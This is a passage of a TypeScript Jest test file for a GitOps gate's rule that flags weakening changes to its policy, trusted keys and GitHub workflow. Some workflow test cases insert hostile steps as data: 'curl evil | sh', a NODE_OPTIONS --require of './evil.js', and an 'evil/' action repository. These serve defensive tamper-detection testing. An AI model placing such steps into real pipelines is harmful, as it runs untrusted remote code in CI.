import { createHash, generateKeyPairSync } from 'node:crypto';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { emptyRange } from '../../src/git/range/range.ts';
import type { CommitPaths } from '../../src/git/repository.ts';
import type { FileSide, TouchedFile } from '../../src/kube/touched-file.ts';
import { defaultPolicy } from '../../src/policy/defaults.ts';
import { isControlFile } from '../../src/posture/model/control-files.ts';
import type { Evidence } from '../../src/rules/evidence.ts';
import { answeredNotes, gateChanged } from '../../src/rules/repository/gate-changed.ts';
import type { SignatureState, VerifiedCommit } from '../../src/signature/model/signature.ts';
import { superlinearAt } from '../growth.ts';
import { runs, size } from '../thorough.ts';
import { evidenceOfFiles } from './evidence.ts';

type Files = Readonly<Record<string, string | { link: string }>>;

const policy = '.gitops-gate/policy.yaml';
const allowed = '.gitops-gate/allowed_signers';
const workflow = '.github/workflows/gate.yml';

function side(content: string | { link: string } | undefined): FileSide | undefined {
  if (content === undefined) return undefined;
  const isLink = typeof content !== 'string';
  const bytes = Buffer.from(isLink ? content.link : content);
  const id = createHash('sha1').update(`blob ${bytes.length}\0`).update(bytes).digest('hex');
  return {
    id,
    mode: isLink ? '120000' : '100644',
    size: bytes.length,
    structure: isLink ? 'symlink' : 'text',
    text: isLink ? '' : bytes.toString(),
    bytes: isLink ? Buffer.alloc(0) : bytes,
    documents: [],
    resources: [],
    unreadable: [],
  };
}

function evidence(
  before: Files,
  after: Files,
  over: Partial<Evidence['change']> = {},
  rest: Partial<Evidence> = {},
): Evidence {
  const touched = [...new Set([...Object.keys(before), ...Object.keys(after)])]
    .sort()
    .map(
      (path): TouchedFile => ({
        path,
        scope: '',
        before: side(before[path]),
        after: side(after[path]),
        movedFrom: undefined,
      }),
    )
    .filter((file) => file.before?.id !== file.after?.id || file.before?.mode !== file.after?.mode);
  const tree = (files: Files) =>
    new Map(Object.entries(files).map(([path, content]) => [path, side(content) ?? { mode: '', id: '' }] as const));
  const controlFiles = (files: Files) =>
    new Map(
      Object.entries(files).flatMap(([path, c]) =>
        isControlFile(path) ? [[path, Buffer.from(String(c))] as const] : [],
      ),
    );
  return evidenceOfFiles(touched, {
    change: {
      before: tree(before),
      after: tree(after),
      controlFiles: { before: controlFiles(before), after: controlFiles(after) },
      ...over,
    },
    ruleIds: ['rbac-widened', 'plaintext-secret', 'gate-changed'],
    ...rest,
  });
}

function found(...given: Parameters<typeof evidence>): string[] {
  return [...gateChanged.check(evidence(...given))].map(({ severity, message, position }) => {
    const place = position ? `${position.file}:${position.line}` : '-';
    return `${place} ${severity} ${message}`;
  });
}

/** The severities that a change of the policy's text meets, worst first. */
function severities(before: string, after: string): string[] {
  return [...gateChanged.check(evidence({ [policy]: before }, { [policy]: after }))].map(
    ({ severity = '' }) => severity,
  );
}

/** What a commit touches: one path, and what it leaves there. */
function leaving(path: string, content: Files[string] | undefined): CommitPaths {
  return new Map([[path, side(content)]]);
}

function commit(sha: string, state: SignatureState, roles: readonly string[]): VerifiedCommit {
  const person = { name: 'Ana', email: 'ana@example.org', time: 0 };
  const signer = { name: 'Ana', emails: ['ana@example.org'], roles, principals: ['ana@example.org'] };
  return {
    sha,
    kind: 'commit',
    subject: 's',
    author: person,
    committer: person,
    signature: { state, signer, accepted: state === 'good' },
  };
}

/** The public key packet of a new Ed25519 key (RFC 9580 §5.5.2, version 4), armored. */
function openpgpKey(): string {
  const raw = generateKeyPairSync('ed25519').publicKey.export({ format: 'der', type: 'spki' }).subarray(-32);
  const curve = Buffer.from('092b06010401da470f01', 'hex');
  const body = Buffer.concat([Buffer.from([4, 0x66, 0, 0, 0, 22]), curve, Buffer.from([1, 7, 0x40]), raw]);
  const packet = Buffer.concat([Buffer.from([0x98, body.length]), body]);
  const [begin, end] = ['BEGIN', 'END'].map((word) => `-----${word} PGP PUBLIC KEY BLOCK-----`);
  return `${begin}\n\n${packet.toString('base64')}\n${end}\n`;
}

/** A self-signed certificate without a key: `openssl req -x509 -newkey ed25519 -days 36500 -nodes -subj /CN=root`. */
const root = `-----BEGIN CERTIFICATE-----
MIIBNDCB56ADAgECAhQ9DRSx7u8jMtAPkYysZOKrJgrMOjAFBgMrZXAwDzENMAsG
A1UEAwwEcm9vdDAgFw0yNjExMjIwODQzNDZaGA8yMTI2MTAyOTA4NDM0NlowDzEN
MAsGA1UEAwwEcm9vdDAqMAUGAytlcAMhAHAq/l1SX5TzNNKtD5lWbUtR/gdVMz+n
VSRpUaZ7ha+Eo1MwUTAdBgNVHQ4EFgQUjX4U3cZsPfdNK+ag9O3ez3bNm5AwHwYD
VR0jBBgwFoAUjX4U3cZsPfdNK+ag9O3ez3bNm5AwDwYDVR0TAQH/BAUwAwEB/zAF
BgMrZXADQQCLMcezX5GK2o73x2qc7xjXcfrQjFXQFSMsc1zMj0OMQ5To/mZysW7i
CFiVFrwLtPoLVH4N/ECGijdSi6myvi0A
-----END CERTIFICATE-----
`;

function sshKey(): string {
  const raw = generateKeyPairSync('ed25519').publicKey.export({ format: 'der', type: 'spki' }).subarray(-32);
  const part = (bytes: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, bytes.length]), bytes]);
  return `ssh-ed25519 ${Buffer.concat([part(Buffer.from('ssh-ed25519')), part(raw)]).toString('base64')}`;
}

describe('the policy', () => {
  test('says which key changes and where', () => {
    const before = { [policy]: 'version: 1\nfailOn: high\n' };
    expect(found(before, { [policy]: 'version: 1\n# quieter\nfailOn: never\n' })).toEqual([
      `${policy}:3 high ${policy} weakens the gate: failOn goes from high to never`,
    ]);
  });

  const ignore = (until: string, rest = 'object: Role/a/b') =>
    `ignore:\n  - {rule: rbac-widened, ${rest}, reason: r, until: ${until}}\n`;
  const signer = (rest: string) => `signatures:\n  signers:\n    ana@example.org: {${rest}}\n`;
  const requires = (rest: string) => `signatures:\n  require:\n    - {${rest}}\n`;

  test.each<[string, string, string]>([
    ['a looser threshold', 'failOn: low\n', 'failOn: medium\n'],
    ['no threshold of its own, which leaves it to an input', 'failOn: high\n', 'version: 1\n'],
    ['a rule that is off', '', 'rules: {rbac-widened: off}\n'],
    ['a rule of lower severity', 'rules: {rbac-widened: critical}\n', 'rules: {rbac-widened: high}\n'],
    ['a rule of one severity for graded findings', '', 'rules: {rbac-widened: high}\n'],
    ['a severity taken back', 'rules: {rbac-widened: critical}\n', ''],
    ['the gate’s own rule off', '', 'rules: {gate-changed: off}\n'],
    ['no identity asked for', '', 'signatures: {identity: none}\n'],
    ['report on push', 'signatures: {onPush: block}\n', 'signatures: {onPush: report}\n'],
    ['a signer', 'version: 1\n', signer('roles: [admin]')],
    ['a role', signer('roles: [dev]'), signer('roles: [dev, admin]')],
    ['an admin less', signer('roles: [dev, admin]'), signer('roles: [dev]')],
    ['an email', signer('emails: [a@b]'), signer('emails: [a@b, c@d]')],
    ['emails left to the key', signer('emails: [a@b]'), signer('emails: []')],
    ['a signer left to the key', signer('emails: [a@b]'), 'version: 1\n'],
    ['a requirement gone', requires('paths: [p/**], roles: [admin]'), ''],
    [
      'a requirement for less',
      requires('paths: [p/**, q/**], roles: [admin]'),
      requires('paths: [p/**], roles: [admin]'),
    ],
    ['a requirement others meet', requires('paths: [p], roles: [admin]'), requires('paths: [p], roles: [admin, dev]')],
    [
      'a requirement for fewer rules',
      requires('rules: [rbac-widened, plaintext-secret], roles: [admin]'),
      requires('rules: [rbac-widened], roles: [admin]'),
    ],
    [
      'a requirement other signers meet',
      requires('paths: [p], signers: [ana]'),
      requires('paths: [p], signers: [ana, bob]'),
    ],
    ['forge signatures', '', 'signatures: {forge: {accept: all}}\n'],
    ['a bot', '', 'signatures: {forge: {bots: [bot@example.org]}}\n'],
    ['a forge key', '', `signatures: {forge: {keys: [${'A'.repeat(40)}]}}\n`],
    ['a gitsign identity', '', 'signatures: {identities: [{subject: a, issuer: "https://b"}]}\n'],
    ['one more delivered branch', 'branches: [main]\n', 'branches: [main, "*"]\n'],
    ['no delivered branches', 'branches: [main]\n', ''],
    ['another scope', 'clusters: {prod: [p/**]}\n', 'clusters: {prod: [p/**, dev/**]}\n'],
    ['a scope gone', 'clusters: {prod: [p/**]}\n', ''],
    ['a declared role', '', 'rbac: {roles: [{kind: ClusterRole, name: a, rules: []}]}\n'],
    ['a new ignore', '', ignore('2026-01-01')],
    ['an ignore that ends later', ignore('2026-01-01'), ignore('2027-01-01')],
    ['an ignore of something else', ignore('2026-01-01'), ignore('2026-01-01', 'object: Role/a/c')],
    ['a URL that newly means this repository', '', 'render: {repositories: ["https://x.test/y"]}\n'],
    ['a root that need not be rendered', 'render: {require: [a]}\n', ''],
    ['less time for rendering', 'render: {seconds: 300}\n', 'render: {seconds: 200}\n'],
    ['more known roles, those of OpenShift', 'openshift: false\n', 'openshift: true\n'],
    ['a smaller limit', '', 'limits: {bytes: 100}\n'],
  ])('weakened by %s is high', (_, before, after) =>
    expect(severities(before || '# x\n', after || '# y\n')).toContain('high'),
  );

  test.each<[string, string, string]>([
    ['a stricter threshold', 'failOn: high\n', 'failOn: low\n'],
    ['a stated threshold', '', 'failOn: high\n'],
    ['a rule of the worst severity', '', 'rules: {rbac-widened: critical}\n'],
    ['a rule that is on again', 'rules: {rbac-widened: off}\n', ''],
    ['more identity', '', 'signatures: {identity: committer-and-author}\n'],
    ['a role less', signer('roles: [dev, admin]'), signer('roles: [admin]')],
    ['an email less', signer('emails: [a@b, c@d]'), signer('emails: [a@b]')],
    ['a new requirement', '', requires('paths: [p/**], roles: [admin]')],
    ['a requirement for more', requires('paths: [p], roles: [admin]'), requires('paths: [p, q], roles: [admin]')],
    ['no forge signatures', '', 'signatures: {forge: {accept: none}}\n'],
    ['an ignore gone', ignore('2026-01-01'), ''],
    ['an ignore that ends earlier', ignore('2026-01-01'), ignore('2025-01-01')],
    ['more time for rendering', '', 'render: {seconds: 300}\n'],
    ['a root that must be rendered', '', 'render: {require: [a]}\n'],
    ['a larger limit', '', 'limits: {bytes: 99999999}\n'],
    ['a smaller limit of the whole run', 'limits: {seconds: 100}\n', 'limits: {seconds: 50}\n'],
    ['fewer known roles, those of OpenShift', 'openshift: true\n', 'openshift: false\n'],
    ['another Kubernetes version', '', 'kubernetesVersion: "1.30"\n'],
    ['delivered branches that are named', '', 'branches: [main]\n'],
    ['a delivered branch less', 'branches: [main, release/*]\n', 'branches: [main]\n'],
    ['a comment', '# a\nfailOn: high\n', '# b\nfailOn: high\n'],
  ])('not weakened by %s is medium', (_, before, after) =>
    expect(severities(before || '# x\n', after || '# y\n')).toEqual(['medium']),
  );

  test('changes nothing by an ignore that another one for the same outlasts', () => {
    const both = `${ignore('2027-01-01')}${ignore('2026-01-01').replace('ignore:\n', '')}`;
    expect(found({ [policy]: both }, { [policy]: ignore('2027-01-01') })).toEqual([
      `${policy}:1 medium ${policy} changes the gate: its text changes, and nothing it says`,
    ]);
  });

  test('may name its first admin while the base trusts no key, and nothing more', () => {
    const named = signer('roles: [admin]');
    expect(found({ [policy]: 'version: 1\n' }, { [policy]: named }, {}, { trustsKeys: false })[0]).toContain(
      ' medium ',
    );
    const more = `${named}  identity: none\n`;
    expect(found({ [policy]: 'version: 1\n' }, { [policy]: more }, {}, { trustsKeys: false })[0]).toContain(' high ');
  });

  test('that is weakened says who can answer for it, or what comes first', () => {
    const run = (more: string) =>
      `on: [pull_request_target${more}]\njobs: {a: {runs-on: x, steps: [{uses: gitops-gate/gitops-gate@v1}]}}\n`;
    const remedyWith = (roles: string[], rest: Partial<Evidence> = {}, file = policy) => {
      const signers = [{ key: 'a@b', name: 'Ana', emails: [], roles }];
      const base = { ...defaultPolicy, signatures: { ...defaultPolicy.signatures, signers } };
      const [before, after] = file === policy ? ['failOn: low', 'failOn: never'] : [run(', merge_group'), run('')];
      const given = evidence({ [file]: before }, { [file]: after }, {}, { policy: base, ...rest });
      return [...gateChanged.check(given)][0]?.remedy;
    };
    expect(remedyWith(['admin'])).toMatch(/^Have an admin make and sign the last commit/);
    expect(remedyWith(['dev'])).toMatch(/^Sign the last commit .* with a key that the base trusts: .* names no admin/);
    expect(remedyWith(['dev'], {}, workflow)).toMatch(/^First name an admin, in a change of its own: /);
    expect(remedyWith(['dev'], { trustsKeys: false })).toMatch(/^First trust a key and name an admin, /);
    const broken = { policy: { ...defaultPolicy, isBroken: true } };
    expect(remedyWith([], broken)).toMatch(/^Take the change out and fix only what is broken: /);
  });

  test('has an admin by an identity as well', () => {
    const identities = [{ subject: 'ana@example.org', issuer: 'https://login.example.org', roles: ['admin'] }];
    const base = { ...defaultPolicy, signatures: { ...defaultPolicy.signatures, identities } };
    const given = evidence({ [policy]: 'failOn: low' }, { [policy]: 'failOn: never' }, {}, { policy: base });
    expect([...gateChanged.check(given)][0]?.remedy).toContain('Have an admin make and sign');
  });

  test('has twenty findings of its own at most, and fifty lines of what else weakens it', () => {
    const entries = (count: number) =>
      `ignore:\n${Array.from({ length: count }, (_, i) => ignore('2026-01-01', `object: Role/a/r${i}`).slice('ignore:\n'.length)).join('')}`;
    const all = (count: number) => [
      ...gateChanged.check(evidence({ [policy]: 'version: 1\n' }, { [policy]: entries(count) })),
    ];
    expect(all(20).map(({ details }) => details)).toEqual(new Array(20).fill(undefined));
    expect(all(22)).toHaveLength(21);
    expect(all(22).at(-1)?.message).toContain(', and 1 more');
    expect(all(22).at(-1)?.details).toHaveLength(2);
    expect(all(90).at(-1)?.details).toHaveLength(50);
  });

  test('that is removed loses what it demanded', () => {
    expect(found({ [policy]: 'failOn: low\n' }, {})).toEqual([
      `- high ${policy} weakens the gate: failOn goes from low to the default (high)`,
    ]);
  });

  test.each<[string, Files[string]]>([
    ['an unknown key', 'failon: low\n'],
    ['an unknown rule', 'rules: {rbac-widend: low}\n'],
    ['broken YAML', 'failOn: [\n'],
    ['a link', { link: '../elsewhere.yaml' }],
  ])('of a change is refused with %s, even an admin’s', (_, after) => {
    const sha = 'a'.repeat(40);
    const signed = { commits: [commit(sha, 'good', ['admin'])], commitPaths: new Map([[sha, leaving(policy, after)]]) };
    const lines = found({ [policy]: 'failOn: high\n' }, { [policy]: after }, signed);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/:[12] high .* breaks the gate: /);
  });

  test('that was broken is compared as the defaults, which held in its place', () => {
    expect(found({ [policy]: 'failOn: [\n' }, { [policy]: 'failOn: never\n' })[0]).toContain('high');
    expect(found({ [policy]: 'failOn: [\n' }, { [policy]: 'failOn: high\n' })[0]).toContain('medium');
  });

  test('of another folder may not be put in the place of the one that an input names', () => {
    const rest = { policy: { ...defaultPolicy, folder: 'infra/gate' } };
    const before = { 'infra/gate/policy.yaml': 'failOn: low\n' };
    const lines = found(before, { ...before, [policy]: 'failOn: never\n' }, {}, rest);
    expect(lines).toEqual([expect.stringContaining('high')]);
    expect(lines[0]).toContain('takes the place of infra/gate/');
  });
});

describe('while the base has no folder', () => {
  test('adding it is reported, and does not block', () => {
    const lines = found({}, { [policy]: 'failOn: never\n', [allowed]: `a@b ${sshKey()}\n` });
    expect(lines).toEqual([
      `${allowed}:1 low ${allowed} sets up the gate: .gitops-gate/ is new, with allowed_signers, policy.yaml`,
    ]);
  });

  test('adding a broken key is refused', () => {
    expect(found({}, { [allowed]: 'a@b ssh-ed25519 xxxx\n' })[0]).toContain('breaks the gate');
  });

  test('adding a broken one is refused', () => {
    expect(found({}, { [policy]: 'failon: never\n' })[0]).toContain('high');
  });
});

describe('trusted keys', () => {
  const [ana, bob] = [`ana@b ${sshKey()}\n`, `bob@b ${sshKey()}\n`];
  const [x, y] = [openpgpKey(), openpgpKey()];
  const at = (...lines: string[]) => ({ [allowed]: lines.join('') });

  test('a new one weakens, and is on its line', () => {
    expect(found(at(ana), at(ana, '# bob\n', bob))).toEqual([
      expect.stringMatching(`^${allowed}:3 high .*for "bob@b"$`),
    ]);
  });

  test('the first one of a base that trusts none does not weaken', () => {
    expect(found(at('# nobody yet\n'), at(ana), {}, { trustsKeys: false })[0]).toContain('medium');
  });

  test.each<[string, Files, Files]>([
    ['one gone', at(ana, bob), at(ana)],
    ['another order and comments', at(ana, bob), at('# people\n', bob, ana)],
    ['a shorter validity', at(ana), at(ana.replace(' ', ' valid-before="20300101Z" '))],
    ['one more revoked', { '.gitops-gate/revoked': '# none\n' }, { '.gitops-gate/revoked': `${'A'.repeat(40)}\n` }],
    ['a certificate that moves', { '.gitops-gate/keys/a.asc': x }, { '.gitops-gate/keys/b.asc': x }],
    [
      'a certificate gone',
      { [allowed]: ana, '.gitops-gate/keys/a.asc': x, '.gitops-gate/keys/b.asc': y },
      { [allowed]: ana, '.gitops-gate/keys/b.asc': y },
    ],
  ])('%s changes the gate', (_, before, after) => {
    const lines = found(before, after);
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) expect(line).toContain(' medium ');
  });

  test.each<[string, Files, Files]>([
    ['other principals', at(ana), at(ana.replace('ana@b', '*'))],
    ['a certificate authority', at(ana), at(ana.replace(' ', ' cert-authority '))],
    ['a longer validity', at(ana.replace(' ', ' valid-before="20300101Z" ')), at(ana)],
    ['a line that cannot be read', at(ana), at(ana, 'bob@b ssh-ed25519 xxxx\n')],
    ['no key any more', at(ana), at('# nobody\n')],
    ['the file removed', at(ana), {}],
    ['a new certificate', { [allowed]: ana }, { [allowed]: ana, '.gitops-gate/keys/b.asc': x }],
    ['a changed certificate', { '.gitops-gate/keys/b.asc': x }, { '.gitops-gate/keys/b.asc': y }],
    ['the last certificate gone', { [allowed]: '# none\n', '.gitops-gate/keys/b.asc': x }, { [allowed]: '# none\n' }],
    ['a key no longer revoked', { '.gitops-gate/revoked': `${'A'.repeat(40)}\n` }, { '.gitops-gate/revoked': '' }],
    ['revocations removed', { [allowed]: ana, '.gitops-gate/revoked': `${'A'.repeat(40)}\n` }, { [allowed]: ana }],
    ['a new root', { [allowed]: ana }, { [allowed]: ana, '.gitops-gate/x509/r.pem': root }],
    ['a certificate that cannot be read', { [allowed]: ana }, { [allowed]: ana, '.gitops-gate/keys/b.asc': 'x' }],
    ['a root that cannot be read', { [allowed]: ana }, { [allowed]: ana, '.gitops-gate/x509/r.pem': 'x' }],
    ['a link in place of a key', { [allowed]: ana }, { [allowed]: ana, '.gitops-gate/keys/b.asc': { link: '/etc/x' } }],
  ])('%s weakens the gate', (_, before, after) => expect(found(before, after).join('\n')).toContain(' high '));
});

/** A base that names an admin. */
const withAdmin = {
  ...defaultPolicy,
  signatures: {
    ...defaultPolicy.signatures,
    signers: [{ key: 'ana@example.org', name: 'Ana', emails: [], roles: ['admin'] }],
  },
};

describe('while the base names no admin, a signature', () => {
  const [first, second] = ['a'.repeat(40), 'b'.repeat(40)];
  const [before, after] = [{ [policy]: 'failOn: high\n' }, { [policy]: 'failOn: never\n' }];
  const signed = (commits: VerifiedCommit[], paths: [string, CommitPaths][]) => ({
    commits,
    commitPaths: new Map(paths),
  });
  const good = commit(first, 'good', []);
  const left = leaving(policy, 'failOn: never\n');
  const one = signed([good], [[first, left]]);

  test('by a trusted key makes a weaker folder medium, and says to name the first admin', () => {
    expect(found(before, after, one)).toEqual([
      `${policy}:1 medium ${policy} weakens the gate: failOn goes from high to never`,
    ]);
    const [observation] = [...gateChanged.check(evidence(before, after, one))];
    expect(observation?.remedy).toContain('Name the first admin now');
  });

  test('of an admin makes it no finding, and a note that says what changes', () => {
    const admin = signed([commit(first, 'good', ['admin'])], [[first, left]]);
    expect(found(before, after, admin)).toEqual([]);
    expect(answeredNotes(evidence(before, after, admin))).toEqual([
      `${policy} weakens the gate, signed by an admin: failOn goes from high to never.`,
    ]);
    expect(answeredNotes(evidence(before, after, one))).toEqual([]);
  });

  test('by a trusted key lets a second key in', () => {
    const [ana, bob] = [`ana@b ${sshKey()}\n`, `bob@b ${sshKey()}\n`];
    const keys = signed([good], [[first, leaving(allowed, ana + bob)]]);
    expect(found({ [allowed]: ana }, { [allowed]: ana + bob }, keys)).toEqual([
      expect.stringMatching(/^\.gitops-gate\/allowed_signers:2 medium .* weakens the gate: the SSH key /),
    ]);
  });

  test('does not change which finding it is', () => {
    const subjects = [one, {}].map((over) => [...gateChanged.check(evidence(before, after, over))][0]?.subject);
    expect(subjects[0]).toEqual(subjects[1]);
  });

  test.each<[string, VerifiedCommit[], [string, CommitPaths][]]>([
    ['that is missing', [commit(first, 'unsigned', [])], [[first, left]]],
    ['by an unknown key', [commit(first, 'untrusted', [])], [[first, left]]],
    ['for another address', [commit(first, 'wrong-identity', [])], [[first, left]]],
    ['of the forge', [commit(first, 'forge-signed', [])], [[first, left]]],
    ['on a commit that leaves something else there', [good], [[first, leaving(policy, 'failOn: low\n')]]],
    [
      'on the first of two commits',
      [good, commit(second, 'unsigned', [])],
      [
        [first, left],
        [second, left],
      ],
    ],
    ['on a tag', [{ ...good, kind: 'tag' }], [[first, left]]],
  ])('%s leaves it high', (_, commits, paths) =>
    expect(found(before, after, signed(commits, paths))[0]).toContain(' high '),
  );

  test('does not answer for what breaks the folder', () => {
    const broken = signed([good], [[first, leaving(policy, 'failon: never\n')]]);
    expect(found(before, { [policy]: 'failon: never\n' }, broken)[0]).toContain(' high ');
  });

  test('does not answer for the pipeline', () => {
    const run = 'on: [pull_request_target]\njobs: {a: {runs-on: x, steps: [{uses: gitops-gate/gitops-gate@v1}]}}\n';
    const other = run.replace('pull_request_target', 'push');
    const [line] = found(
      { [workflow]: run },
      { [workflow]: other },
      signed([good], [[first, leaving(workflow, other)]]),
    );
    expect(line).toContain(' high ');
  });

  test('does not answer for another folder that takes the place of the named one', () => {
    const rest = { policy: { ...defaultPolicy, folder: 'infra/gate' } };
    const named = { 'infra/gate/policy.yaml': 'failOn: low\n' };
    expect(found(named, { ...named, ...after }, one, rest)[0]).toContain(' high ');
  });

  test.each([
    ['names an admin', withAdmin],
    ['could not be read', { ...defaultPolicy, isBroken: true }],
  ])('of one who is no admin is not enough where the base %s', (_, base) => {
    expect(found(before, after, one, { policy: base })[0]).toContain(' high ');
  });
});

describe('a signature', () => {
  const [first, second] = ['a'.repeat(40), 'b'.repeat(40)];
  const left = 'failOn: never\n';
  const change = (commits: VerifiedCommit[], paths: [string, string[]][], content = left) => {
    const commitPaths = new Map(paths.map(([sha, [path = '']]) => [sha, leaving(path, content)]));
    return found({ [policy]: 'failOn: high\n' }, { [policy]: left }, { commits, commitPaths }, { policy: withAdmin });
  };

  test('of an admin on the last commit that touches the file makes it pass', () => {
    const others = commit(second, 'unsigned', []);
    expect(
      change(
        [commit(first, 'good', ['admin']), others],
        [
          [first, [policy]],
          [second, ['a.yaml']],
        ],
      ),
    ).toEqual([]);
  });

  test('of an admin on a commit that leaves something else there does not', () => {
    expect(change([commit(first, 'good', ['admin'])], [[first, [policy]]], 'failOn: low\n')[0]).toContain(' high ');
  });

  test('of an admin on the last commit answers for what others did before', () => {
    const commits = [commit(first, 'unsigned', []), commit(second, 'good', ['admin'])];
    expect(
      change(commits, [
        [first, [policy]],
        [second, [policy]],
      ]),
    ).toEqual([]);
  });

  test('need not be an admin’s on a merge that brings in nothing of its own', () => {
    const merge = { ...commit(second, 'forge-signed', []), isPlainMerge: true };
    expect(
      change(
        [commit(first, 'good', ['admin']), merge],
        [
          [first, [policy]],
          [second, [policy]],
        ],
      ),
    ).toEqual([]);
    expect(change([merge], [[second, [policy]]])[0]).toContain(' high ');
  });

  test('of an admin counts whatever tag is verified with the commits', () => {
    const tag: VerifiedCommit = { ...commit(second, 'unsigned', []), kind: 'tag' };
    expect(change([commit(first, 'good', ['admin']), tag], [[first, [policy]]])).toEqual([]);
  });

  test('of an admin does not answer for another mode of the file', () => {
    const signed = {
      commits: [commit(first, 'good', ['admin'])],
      commitPaths: new Map([[first, new Map([[policy, { mode: '100755', id: side('failOn: never')?.id ?? '' }]])]]),
    };
    expect(found({ [policy]: 'failOn: low' }, { [policy]: 'failOn: never' }, signed)[0]).toContain(' high ');
  });

  test.each<[string, VerifiedCommit[], [string, string[]][]]>([
    ['of someone who is not an admin', [commit(first, 'good', ['dev'])], [[first, [policy]]]],
    ['of an admin that is not good', [commit(first, 'expired', ['admin'])], [[first, [policy]]]],
    ['of the forge', [commit(first, 'forge-signed', ['admin'])], [[first, [policy]]]],
    [
      'of an admin on the first of two commits',
      [commit(first, 'good', ['admin']), commit(second, 'unsigned', [])],
      [
        [first, [policy]],
        [second, [policy]],
      ],
    ],
    ['on no commit that is known to touch it', [commit(first, 'good', ['admin'])], [[first, ['a.yaml']]]],
    [
      'alongside a commit whose paths are not known',
      [commit(first, 'good', ['admin']), commit(second, 'unsigned', [])],
      [[first, [policy]]],
    ],
    ['on a tag', [{ ...commit(first, 'good', ['admin']), kind: 'tag' }], [[first, [policy]]]],
    ['on nothing', [], []],
  ])('%s does not', (_, commits, paths) => expect(change(commits, paths)[0]).toContain(' high '));
});

describe('a GitHub workflow that runs the gate', () => {
  const gate = `name: gate
on:
  pull_request_target:
    types: [opened, synchronize, reopened, edited]
  merge_group:
permissions: { contents: read }
jobs:
  gate:
    name: GitOps gate
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: acme/gitops-gate@v1.2.0
        with:
          fail-on: high
      - run: echo done
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
`;
  const edit = (from: string, to: string) => {
    expect(gate).toContain(from);
    return found({ [workflow]: gate }, { [workflow]: gate.replace(from, to) });
  };

  test.each<[string, string, string, number]>([
    ['an event', '  merge_group:\n', '', 2],
    ['a type of event', ', edited]', ']', 4],
    ['a path filter', 'edited]\n', 'edited]\n    paths: [docs/**]\n', 5],
    ['the author’s own trigger', 'pull_request_target', 'pull_request', 2],
    [
      'a condition',
      '    runs-on: ubuntu-latest\n    steps:\n      - uses: a',
      '    if: false\n    runs-on: ubuntu-latest\n    steps:\n      - uses: a',
      10,
    ],
    ['another check name', 'GitOps gate', 'GitOps Gate', 9],
    [
      'another runner',
      '    runs-on: ubuntu-latest\n    steps:\n      - uses: a',
      '    runs-on: self-hosted\n    steps:\n      - uses: a',
      10,
    ],
    [
      'a step before it',
      '      - uses: actions/checkout@v4\n',
      '      - uses: actions/checkout@v4\n      - run: curl evil | sh\n',
      11,
    ],
    ['a commit id, which can be a fork’s', 'gitops-gate@v1.2.0', `gitops-gate@${'a'.repeat(40)}`, 13],
    ['another repository', 'acme/gitops-gate@', 'evil/gitops-gate@', 13],
    ['an earlier release', '@v1.2.0', '@v1.1.9', 13],
    ['a looser input', 'fail-on: high', 'fail-on: never', 15],
    ['an input taken away', '          fail-on: high\n', '          base: HEAD\n', 15],
    ['a forgiven failure', '        with:\n', '        continue-on-error: true\n        with:\n', 14],
    ['a forgiven job', '    name: GitOps gate\n', '    name: GitOps gate\n    continue-on-error: true\n', 10],
    ['a job to wait for', '    name: GitOps gate\n', '    name: GitOps gate\n    needs: build\n', 10],
    ['an environment', 'jobs:\n', 'env: { NODE_OPTIONS: --require=./evil.js }\njobs:\n', 7],
    ['no gate', '      - uses: acme/gitops-gate@v1.2.0\n        with:\n          fail-on: high\n', '', 8],
    ['an impostor', '  build:\n', '  build:\n    name: GitOps gate\n', 17],
  ])('is weakened by %s', (_, from, to, line) => {
    const lines = edit(from, to);
    expect(lines[0]).toMatch(new RegExp(`^${workflow}:${line} high `));
  });

  test.each<[string, string, string]>([
    ['another job', '      - run: make\n', '      - run: make all\n'],
    ['a step after it', '- run: echo done', '- run: echo finished'],
    ['a later release', '@v1.2.0', '@v1.10.0'],
    ['a later major release', '@v1.2.0', '@v2'],
    ['a stricter input', 'fail-on: high', 'fail-on: low'],
    ['an input that only shows', 'fail-on: high', 'fail-on: high\n          comment: summary'],
    ['an event more', '  merge_group:\n', '  merge_group:\n  push:\n'],
    ['fewer permissions', 'contents: read', 'contents: none'],
    ['a comment', 'name: gate\n', '# hello\nname: gate\n'],
  ])('is not weakened by %s', (_, from, to) => expect(edit(from, to)).toEqual([expect.stringContaining(' medium ')]));

  test('is weakened where it is removed, renamed to no workflow, or cannot be read', () => {
    expect(found({ [workflow]: gate }, {})[0]).toContain('high');
    expect(found({ [workflow]: gate }, { 'old/gate.yml': gate })[0]).toContain('high');
    expect(found({ [workflow]: gate }, { '.github/workflows/g.yml': gate })[0]).toContain('medium');
    expect(found({ [workflow]: gate }, { [workflow]: `${gate}\t- [` })[0]).toContain('high');
    expect(found({ [workflow]: gate }, { [workflow]: { link: 'x' } })[0]).toContain('high');
  });

  test('is followed through a local workflow and a local action', () => {
    const caller = 'on: pull_request_target\njobs:\n  call: { uses: ./.github/workflows/reusable.yml }\n';
    const reusable = 'on: workflow_call\njobs:\n  gate:\n    steps:\n      - uses: ./.github/actions/guard\n';
    const action = 'runs:\n  using: composite\n  steps:\n    - uses: acme/gitops-gate@v1\n';
    const before = {
      '.github/workflows/ci.yml': caller,
      '.github/workflows/reusable.yml': reusable,
      '.github/actions/guard/action.yml': action,
    };
    for (const path of Object.keys(before) as (keyof typeof before)[]) {
      const after = { ...before, [path]: before[path].replace(/(\.\/\.github\/|acme)/, './evil/') };
      expect(found(before, after)).toEqual([expect.stringMatching(`^${path.replaceAll('.', '\\.')}:\\d+ high`)]);
    }
  });

  test('has a check whose name no other workflow may take', () => {
    const other = 'on: push\njobs:\n  fake:\n    name: GitOps gate\n    steps: [{ run: "true" }]\n';
    const fake = '.github/workflows/fake.yml';
    expect(found({ [workflow]: gate }, { [workflow]: gate, [fake]: other })).toEqual([
      `${fake}:3 high ${fake} weakens the gate: a job of another workflow takes, or may take, the name of the gate’s check`,
    ]);
    const innocent = other.replace('GitOps gate', 'something else');
    expect(found({ [workflow]: gate }, { [workflow]: gate, [fake]: innocent })).toEqual([]);
  });

  /** `<<x>>` is an expression of a workflow. */
  const expressions = (text: string) => text.replaceAll('<<', '$' + '{{ ').replaceAll('>>', ' }}');

  /** The name that carries the target, as recommended. */
